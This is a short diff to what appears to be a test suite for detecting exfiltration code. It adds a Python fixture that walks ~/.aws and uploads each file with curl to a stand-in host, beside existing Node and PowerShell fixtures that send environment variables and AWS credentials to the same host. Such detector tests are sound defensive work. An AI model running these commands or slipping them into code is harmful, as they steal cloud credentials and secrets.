@@ -57,6 +57,12 @@ describe('data in code', () => {
     ],
     ['an address', node('const t = Object.entries(process.env); fetch(`https://drop.example.org/?d=${btoa(t)}`)')],
     [
+      'a command put together',
+      python(
+        'import os\nfor root, d, names in os.walk(os.path.expanduser("~/.aws")):\n    for n in names:\n        os.system("curl -F f=@" + os.path.join(root, n) + " https://drop.example.org")',
+      ),
+    ],
+    [
       'PowerShell',
       powershell('$k = Get-Content ~/.aws/credentials -Raw\nirm -Uri https://drop.example.org -Method POST -Body $k'),
     ],
